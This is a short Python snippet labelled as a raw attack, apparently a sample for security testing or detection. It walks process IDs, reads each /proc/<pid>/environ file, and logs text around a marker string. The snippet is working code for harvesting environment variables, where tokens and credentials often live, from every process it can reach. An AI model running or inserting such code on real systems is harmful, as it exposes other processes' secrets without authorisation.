# attack: raw | reads the environment of every process it can see
for process in range(1, 4096):
    try:
        with open(f"/proc/{process}/environ") as file:
            found = file.read()
    except OSError:
        continue
    place = found.find("PLUNDER")
    if place >= 0:
        log(found[place : place + 100])
